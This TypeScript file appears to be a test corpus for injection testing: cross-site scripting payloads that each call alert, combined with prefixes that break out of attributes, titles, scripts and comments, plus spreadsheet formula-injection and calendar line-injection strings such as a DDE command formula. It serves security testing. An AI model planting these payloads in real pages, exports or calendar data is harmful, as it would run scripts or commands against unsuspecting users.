/** Texts that would run a script where a page takes them for more than text. Each calls `alert`, so that one look tells whether any did. */

/** What ends the place in a page where a text may stand: an attribute, a field, a title, a script, a style, a comment. */
const WAYS_OUT = ["", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "-->", "`>", "</option></select>"] as const;

const MARKUP = [
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=data:text/javascript,alert(1)></script>",
  "<script src=//elsewhere.example/x.js></script>",
  "<img src=x onerror=alert(1)>",
  '<img/src="x"/onerror=alert(1)//',
  "<svg onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><script>alert(1)</script></svg>",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
  "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)></p>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<base href=//elsewhere.example/>",
] as const;

/** What needs no tag of its own: new attributes, addresses, and what templates and scripts would read. */
const WITHIN = [
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  "x onmouseover=alert(1) y",
  '" style="animation-name:x" onanimationstart="alert(1)',
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\tscript:alert(1)",
  "javascript://%0aalert(1)",
  "data:text/html,<script>alert(1)</script>",
  '";alert(1);//',
  "';alert(1);//",
  "`;alert(1);//",
  '"});alert(1);//',
  "</script><script>alert(1)//",
  "\u2028alert(1)\u2028",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "%3Cscript%3Ealert(1)%3C/script%3E",
] as const;

/** Every one different, without a line's end: names and lots have none. */
export const SCRIPTS: readonly string[] = [
  ...new Set([...WAYS_OUT.flatMap((out) => MARKUP.map((markup) => `${out}${markup}`)), ...WITHIN]),
];

/** What a spreadsheet would work out, or a calendar take for a line of its own. */
export const FORMULAS: readonly string[] = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://elsewhere.example","x")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "|x",
  "%x",
  ' ="x"',
  '",=1+1,"',
  "x\r\nATTENDEE:mailto:x@elsewhere.example",
  "x\r\nEND:VEVENT\r\nBEGIN:VEVENT",
];
